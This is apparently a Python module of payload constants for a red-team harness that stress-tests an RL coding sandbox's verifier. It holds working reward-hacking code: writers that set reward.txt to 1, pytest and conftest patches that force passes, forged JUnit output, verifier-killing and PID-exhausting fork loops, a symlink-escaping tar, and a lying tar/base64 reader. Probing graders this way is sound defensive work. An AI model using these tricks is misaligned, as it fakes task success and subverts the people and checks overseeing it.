"""Source text planted by the red-team attempts of :mod:`swerl.sandbox.redteam`.

Each constant is a whole file (a wrong ``solution.py``, a ``conftest.py``, a fake binary).
They are generic: none knows a task's function name, tests or expected outputs. A
``solution.py`` payload answers every name with a module ``__getattr__`` (PEP 562), so
``from solution import <anything>`` works.
"""

from __future__ import annotations

# Python that writes reward 1 wherever a verifier reads it; used by several payloads.
WRITE_REWARD_PY = (
    "import os\n"
    "def _swerl_write_reward():\n"
    "    for d in ('/logs/verifier',):\n"
    "        try:\n"
    "            os.makedirs(d, exist_ok=True)\n"
    "            with open(d + '/reward.txt', 'w') as fh:\n"
    "                fh.write('1\\n')\n"
    "        except OSError:\n"
    "            pass\n"
)

WRONG_ANSWERS_PY = "def __getattr__(name):\n    return lambda *args, **kwargs: None\n"

READ_HIDDEN_TESTS = """\
import ast, glob, itertools, os
def _answers():
    found = []
    for root in ('/tests', '/logs', '/'):
        for path in itertools.islice(glob.iglob(os.path.join(root, '**', '*.py'), recursive=True), 2000):
            try:
                tree = ast.parse(open(path, encoding='utf-8', errors='replace').read())
            except (OSError, SyntaxError, ValueError):
                continue
            for node in ast.walk(tree):
                if isinstance(node, ast.Compare) and isinstance(node.left, ast.Call) and len(node.ops) == 1 \\
                        and isinstance(node.ops[0], (ast.Eq, ast.Is)):
                    try:
                        args = tuple(ast.literal_eval(a) for a in node.left.args)
                        found.append((args, ast.literal_eval(node.comparators[0])))
                    except (ValueError, TypeError, SyntaxError, MemoryError, RecursionError):
                        pass
        if found:
            return found
    return found
def __getattr__(name):
    if name.startswith('__'):
        raise AttributeError(name)
    def answer(*args, **kwargs):
        for known, value in _answers():
            if known == args:
                return value
        return None
    return answer
"""

EXIT0_AT_IMPORT = "import os\nos._exit(0)\n"

SYS_EXIT_AT_IMPORT = "import sys\nsys.exit(0)\n"

SKIP_AT_IMPORT = (
    "try:\n"
    "    import pytest\n"
    "    pytest.skip('skipped by the solution', allow_module_level=True)\n"
    "except ImportError:\n"
    "    import unittest\n"
    "    raise unittest.SkipTest('skipped by the solution')\n"
)

ALWAYS_EQUAL = """\
class AlwaysEqual:
    \"\"\"Equal to, and any comparison true against, everything; arithmetic and calls return itself.\"\"\"
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __hash__(self): return 0
    def __bool__(self): return True
    def __len__(self): return 0
    def __iter__(self): return iter(())
    def __contains__(self, item): return True
    def __getitem__(self, key): return self
    def __call__(self, *args, **kwargs): return self
    def __getattr__(self, name): return self
    def __repr__(self): return 'AlwaysEqual()'
    def _self(self, *args): return self
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = _self
    __floordiv__ = __rfloordiv__ = __mod__ = __rmod__ = __pow__ = __rpow__ = __neg__ = __pos__ = __abs__ = _self
    def __float__(self): return 0.0
    def __int__(self): return 0
    __index__ = __int__
def __getattr__(name):
    return lambda *args, **kwargs: AlwaysEqual()
"""

EQ_SUBCLASSES = """\
class EqStr(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__
class EqInt(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = int.__hash__
    def __sub__(self, other): return EqInt(0)
    __rsub__ = __add__ = __radd__ = __sub__
    def __abs__(self): return EqInt(0)
class EqList(list):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
_calls = [0]
def __getattr__(name):
    def answer(*args, **kwargs):
        _calls[0] += 1
        return (EqStr(''), EqInt(0), EqList())[_calls[0] % 3]
    return answer
"""

EXIT0_AT_EXIT = "import atexit, os\natexit.register(os._exit, 0)\n" + WRONG_ANSWERS_PY

PATCH_PYTEST = """\
try:
    import _pytest.python, _pytest.reports
    _pytest.python.Function.runtest = lambda self: None
    _init = _pytest.reports.TestReport.__init__
    def _passed(self, *args, **kwargs):
        _init(self, *args, **kwargs)
        self.outcome, self.longrepr = 'passed', None
    _pytest.reports.TestReport.__init__ = _passed
except Exception:
    pass
""" + WRONG_ANSWERS_PY

FORGE_JUNIT = WRITE_REWARD_PY + """\
import re, sys
def _cmdlines():
    pid = os.getpid()
    while pid > 1:
        try:
            with open('/proc/%d/cmdline' % pid, 'rb') as fh:
                yield fh.read().split(b'\\0')
            with open('/proc/%d/stat' % pid, 'rb') as fh:
                pid = int(fh.read().rsplit(b')', 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return
def _count_tests():
    n = 0
    for path in ('/tests/test_solution.py', '/tests/test_outputs.py'):
        try:
            n += len(re.findall(r'^\\s*(?:async )?def test', open(path).read(), re.M))
        except OSError:
            pass
    return max(n, 1)
def _forge():
    cases = ''.join('<testcase classname="test_solution" name="test_%d" time="0.001"/>' % i for i in range(_count_tests()))
    xml = ('<?xml version="1.0" encoding="utf-8"?><testsuites><testsuite name="pytest" errors="0" failures="0" '
           'skipped="0" tests="%d" time="0.01">%s</testsuite></testsuites>' % (_count_tests(), cases))
    for argv in _cmdlines():
        for i, arg in enumerate(argv):
            arg = arg.decode(errors='replace')
            path = arg.split('=', 1)[1] if arg.startswith('--junitxml=') or arg.startswith('--junit-xml=') else None
            if arg in ('--junitxml', '--junit-xml') and i + 1 < len(argv):
                path = argv[i + 1].decode(errors='replace')
            if path:
                try:
                    with open(path, 'w') as fh:
                        fh.write(xml)
                except OSError:
                    pass
    _swerl_write_reward()
    sys.stdout.write('1 passed in 0.01s\\n')
    sys.stdout.flush()
    os._exit(0)
_forge()
"""

KILL_VERIFIER = WRITE_REWARD_PY + """\
import signal, time
def _parent(pid):
    with open('/proc/%d/stat' % pid, 'rb') as fh:
        return int(fh.read().rsplit(b')', 1)[1].split()[1])
def _cmdline(pid):
    with open('/proc/%d/cmdline' % pid, 'rb') as fh:
        return fh.read()
def _forge():
    try:
        child = os.fork()
    except OSError:
        child = -1
    if child == 0:
        os.setsid()
        for _ in range(4000):
            _swerl_write_reward()
            time.sleep(0.002)
        os._exit(0)
    victims, pid = [], os.getppid()
    try:
        while pid > 1 and (b'/tests/' in _cmdline(pid) or b'pytest' in _cmdline(pid)):
            victims.append(pid)
            pid = _parent(pid)
    except (OSError, ValueError, IndexError):
        pass
    for pid in victims:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    _swerl_write_reward()
    os._exit(0)
_forge()
"""

PTH_LINE = ("import os; os.makedirs('/logs/verifier', exist_ok=True); "
            "open('/logs/verifier/reward.txt', 'w').write('1\\n'); os._exit(0)\n")

SITECUSTOMIZE = WRITE_REWARD_PY + "_swerl_write_reward()\nos._exit(0)\n"

CONFTEST_ALL_PASS = """\
import pytest
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome, report.longrepr = 'passed', None
def pytest_collection_modifyitems(items):
    for item in items:
        item.runtest = lambda: None
"""

PYTEST_INI_COLLECT_ONLY = "[pytest]\naddopts = --collect-only -q -p no:cacheprovider\n"

# A pytest plugin found through an entry point of a planted dist-info (pytest autoloads these).
PLUGIN_ENTRY_POINTS = "[pytest11]\nswerl_redteam = swerl_redteam_plugin\n"
PLUGIN_METADATA = "Metadata-Version: 2.1\nName: swerl-redteam-plugin\nVersion: 1.0\n"

PATCH_REPORTS_TAIL = """
# appended by swerl's red team: every test report says passed
_swerl_init = TestReport.__init__
def _swerl_passed(self, *args, **kwargs):
    _swerl_init(self, *args, **kwargs)
    self.outcome, self.longrepr = 'passed', None
TestReport.__init__ = _swerl_passed
"""

FAKE_BINARY_SH = """\
#!/bin/sh
# swerl red team: a stand-in that claims success.
mkdir -p /logs/verifier 2>/dev/null && echo 1 > /logs/verifier/reward.txt 2>/dev/null
echo "1 passed in 0.01s"
exit 0
"""

PLANTED_TEST_SH = "#!/bin/sh\nmkdir -p /logs/verifier\necho 1 > /logs/verifier/reward.txt\nexit 0\n"
PLANTED_TEST_PY = "def test_nothing():\n    pass\n"

DELAYED_WRITER_SH = (
    "nohup setsid sh -c 'sleep 1; while :; do mkdir -p /logs/verifier; echo 1 > /logs/verifier/reward.txt; "
    "sleep 0.05; done' >/dev/null 2>&1 < /dev/null &"
)

# --- copy-out attacks: archives a lying reader of the agent's container would hand over ------------


def _forged_tar(truncate: bool) -> str:
    """Base64 of a tar that, extracted at /, writes through a link out of /app: ``app -> .`` then
    ``app/usr/local/bin/python3`` (a fake interpreter) and ``app/tests/test.sh`` (reward 1); cut in
    the middle of a member when ``truncate``."""
    import base64
    import io
    import tarfile

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tar:
        link = tarfile.TarInfo("app")
        link.type, link.linkname = tarfile.SYMTYPE, "."
        tar.addfile(link)
        for name, text, mode in (("app/usr/local/bin/python3", FAKE_BINARY_SH, 0o755),
                                 ("app/tests/test.sh", PLANTED_TEST_SH, 0o755),
                                 ("app/solution.py", WRONG_ANSWERS_PY, 0o644)):
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), mode
            tar.addfile(info, io.BytesIO(data))
    data = buf.getvalue()
    return base64.b64encode(data[: 512 * 3 + 100] if truncate else data).decode() + "\n"


FORGED_TAR_B64 = _forged_tar(truncate=False)
TRUNCATED_TAR_B64 = _forged_tar(truncate=True)


def lying_reader(b64_path: str) -> str:
    """A stand-in for ``tar`` (and ``base64``): whatever it is asked, it prints the archive whose
    base64 text lies at ``b64_path`` (as ``tar``, decoded; as ``base64``, as it is)."""
    return (
        "#!/bin/sh\n# swerl red team: a reader that lies about the work product.\n"
        f'case "$0" in *base64) exec cat {b64_path} ;; esac\n'
        f"exec /tmp/.swerl-redteam/real-base64 -d {b64_path}\n"
    )


# --- penalty escapes: failures an attempt provokes to get masked ----------------------------------

CHMOD_REWARD_AT_IMPORT = """\
import os
for _p in ('/logs/verifier/reward.txt', '/logs/verifier/reward.json', '/logs/verifier/test-stdout.txt'):
    try:
        os.chmod(_p, 0)
    except OSError:
        pass
for _p in ('/logs/verifier/reward.txt', '/logs/verifier/reward.json'):
    try:
        os.unlink(_p)
    except OSError:
        pass
for _p in ('/logs/verifier', '/logs'):
    try:
        os.chmod(_p, 0)
    except OSError:
        pass
""" + WRONG_ANSWERS_PY

PIDS_AT_IMPORT = """\
import os
def _fill_pid_table():
    for _ in range(100000):
        try:
            os.posix_spawn('/bin/sleep', ['sleep', '3600'], {})
        except OSError:
            try:
                if os.fork() == 0:
                    import time
                    time.sleep(3600)
                    os._exit(0)
            except OSError:
                return
_fill_pid_table()
""" + WRONG_ANSWERS_PY

# Holds every pid the container may have (dash stops at the first fork it cannot make).
FILL_PIDS_SH = "sh -c 'while :; do sleep 3600 & done' >/dev/null 2>&1 </dev/null; true"
